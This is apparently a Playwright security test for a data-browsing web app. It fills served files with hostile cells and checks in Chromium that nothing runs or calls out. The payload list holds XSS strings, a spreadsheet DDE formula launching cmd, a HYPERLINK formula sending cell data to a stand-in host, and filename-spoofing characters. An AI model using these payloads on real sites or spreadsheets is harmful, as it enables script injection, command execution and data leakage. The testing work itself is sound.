"""Serve files whose every cell is hostile, open every page in Chromium: nothing may run."""

import csv
import io
from hashlib import sha256
from pathlib import Path

from playwright.sync_api import Browser, Page, sync_playwright

from bench.table import Finding
from lib.data.row import Estimate
from tests.chromium import ARGUMENTS, find
from tests.server import ask, serving

RUN = "window.ran=1;alert(1)"
PAGES = ("/?view=all&estimate=row-3", "/?view=all&group={first}", "/sources?view=all",
         "/sources?view=all&group={first}", "/method", "/codebook", "/curate", "/changes",
         "/view?view=all", "/view?view=all&estimate=row-3", "/?view=all&q={script}",
         "/?group={script}&source={script}", "/view?group={script}")  # fmt: skip
CELLS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"javascript:{RUN}",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script><!--",
    f"</style></title></textarea><svg onload={RUN}>",
    f"<a href='javascript:{RUN}'>x</a><b onmouseover={RUN}>y</b>",
    f"[x](javascript:{RUN}) ![y](http://other.invalid/y.png) $\\href{{javascript:{RUN}}}{{z}}$",
    "<img src=http://other.invalid/a.png><link rel=stylesheet href=//other.invalid/b.css>",
    "<style>@import 'http://other.invalid/c.css';</style><iframe src=//other.invalid></iframe>",
    "<meta http-equiv=refresh content='0;url=http://other.invalid/'><base href=//other.invalid>",
    '=HYPERLINK("http://other.invalid/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe\u2066\u200f \u2028\u2029",
    "{{constructor.constructor('" + RUN + "')()}} %{customdata} ${7*7}",
    "<b>" + "x" * 100_000,
)
LINKS = "e => [...document.querySelectorAll('a[href],iframe,base')].map(a => a.href || a.src)"
UNFOLD = "document.querySelectorAll('details:not([open]) > summary').forEach(s => s.click())"


def write(folder: Path) -> Path:
    """Write estimates, events, views and one release, hostile wherever text is free."""
    names = [*Estimate.model_fields, CELLS[1], "=1+1"]
    text = io.StringIO()
    writer = csv.DictWriter(text, names)
    writer.writeheader()
    for number in range(2 * len(CELLS)):
        cells = {name: CELLS[(number + at) % len(CELLS)] for at, name in enumerate(names)}
        address = f"https://own.invalid/'\"><script>{RUN}</script>".replace(" ", "")
        writer.writerow(cells | {
            "id": f"row-{number}", "low": 10 * number + 1, "high": 20 * number + 2,
            "group": CELLS[number % 2], "area": CELLS[1], "counted": CELLS[0],
            "year": 2015 + number % 10, "reference_date": "", "publication_date": "",
            "url": "" if number % 3 else address, "repeats": "row-3" if number == 4 else "",
        })  # fmt: skip
    file = folder / "estimates.csv"
    file.write_text(text.getvalue(), encoding="utf-8")
    lines = [["date", "label", "group", "note", "url"]]
    lines += [[f"2018-01-0{at + 1}", each, "", each, ""] for at, each in enumerate(CELLS[:9])]
    with (folder / "events.csv").open("w", encoding="utf-8", newline="") as events:
        csv.writer(events).writerows(lines)
    views = "[dataset]\ntitle = %s\nauthors = [%s]\nlicence = %s\ncontact = %s\naddress = %s\n"
    said = [_toml(CELLS[at]) for at in (5, 4, 1, 2)]
    views %= (*said, _toml(f"javascript:{RUN}//"))
    views += f"[[view]]\nname = {_toml(CELLS[1])}\ngroup = [{_toml(CELLS[0])}]\n"
    (folder / "views.toml").write_text(views, encoding="utf-8")
    (folder / "releases").mkdir()
    frozen = text.getvalue().replace("row-5", "row-x").encode()
    (folder / "releases" / "2026-01-31.csv").write_bytes(frozen)
    with (folder / "releases" / "manifest.csv").open("w", encoding="utf-8", newline="") as output:
        csv.writer(output).writerows(
            [
                ["release", "sha256", "rows", "reason"],
                ["2026-01-31", sha256(frozen).hexdigest(), 2 * len(CELLS), CELLS[1]],
            ]
        )
    return file


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def visit(page: Page, address: str, path: str, bad: list[str]) -> None:
    """Open one page, unfold every box, point at the chart; note what must not be."""
    script = CELLS[0].replace("<", "%3C").replace(">", "%3E").replace(";", "%3B")
    page.goto(address + path.format(first=script, script=script))
    page.wait_for_selector("h1")
    if not path.startswith("/view"):
        done = "[data-testid=stApp][data-test-script-state=notRunning]"
        page.wait_for_selector(done)
        for _ in range(2):
            page.evaluate(UNFOLD)
            page.wait_for_timeout(700)  # for what the server draws into the boxes
            page.wait_for_selector(done)
    for mark in page.locator(".scatterlayer .point, .chart path[data-id]").all()[:3]:
        mark.hover(force=True, timeout=2000, no_wait_after=True)
    if page.evaluate("window.ran"):
        bad.append(f"a script ran on {path}")
    for link in page.evaluate(LINKS):
        if link.lower().startswith(("javascript:", "data:text")):
            bad.append(f"{link[:40]} is a link on {path}")


def opened(browser: Browser, address: str, bypass: bool) -> Finding:
    """Open all pages in one context, with or without the policy."""
    context = browser.new_context(bypass_csp=bypass)
    page, bad = context.new_page(), []
    own = (address, "data:", "blob:", address.replace("http", "ws"))

    def asked(url: str) -> None:
        if not url.startswith(own):
            bad.append(f"asked {url[:60]}")

    def dialog(found) -> None:
        bad.append(f"dialog on {page.url[len(address) :][:40]}")
        found.dismiss()

    page.on("request", lambda request: asked(request.url))
    page.on("dialog", dialog)
    page.on("popup", lambda popup: bad.append(f"opened {popup.url}"))
    for path in PAGES:
        try:
            visit(page, address, path, bad)
        except Exception as error:  # whatever it is, it belongs into the table
            bad.append(f"{path}: {type(error).__name__} {str(error)[:80]}")
    context.close()
    how = "without the policy, so that escaping alone protects" if bypass else "with the policy"
    return Finding(
        f"hostile cells, column names, events, views and release on {len(PAGES)} addresses in "
        f"Chromium, every box unfolded, {how}",
        "no script, no dialog, no script link, no request to another host",
        "; ".join(dict.fromkeys(bad)) or "none", not bad,
    )  # fmt: skip


def control(browser: Browser) -> Finding:
    """See that a script which does run would be noticed by the same marks."""
    page = browser.new_page()
    said: list[str] = []
    page.on("dialog", lambda found: (said.append(found.message), found.dismiss()))
    page.on("request", lambda request: said.append(request.url))
    page.set_content(CELLS[1] + CELLS[8])
    noticed = page.evaluate("window.ran") == 1 and "1" in said
    noticed = noticed and any("other.invalid" in each for each in said)
    page.close()
    return Finding(
        "two of these cells on a page that does not escape them",
        "script, dialog and request are noticed", "noticed" if noticed else "missed", noticed,
    )  # fmt: skip


def formats(address: str) -> Finding:
    """Take the hostile rows by the data routes: whole, and never as a page."""
    kinds = {}
    for name in ("estimates.csv", "estimates.json", "estimates.bib", "datapackage.json"):
        status, headers, _ = ask(f"{address}/api/{name}")
        sound = headers.get("x-content-type-options") == "nosniff"
        sound = sound and "default-src 'none'" in headers.get("content-security-policy", "")
        kinds[name] = status == 200 and sound and "html" not in headers["content-type"]
    return Finding(
        "the same by the data routes", "200, never a page, not guessed at, may load nothing",
        "; ".join(f"{name}: {'yes' if held else 'NO'}" for name, held in kinds.items()),
        all(kinds.values()),
    )  # fmt: skip


def checks(folder: Path) -> list[Finding]:
    """Serve hostile files from a folder and open them."""
    with (
        serving(write(folder), folder / "app.log") as address,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=find(), args=ARGUMENTS)
        found = [opened(browser, address, bypass) for bypass in (False, True)]
        found.append(control(browser))
        browser.close()
        found.append(formats(address))
    errors = (folder / "app.log").read_text(encoding="utf-8").count('"level": "error"')
    return [*found, Finding("the same", "no error in the log", f"{errors} errors", not errors)]
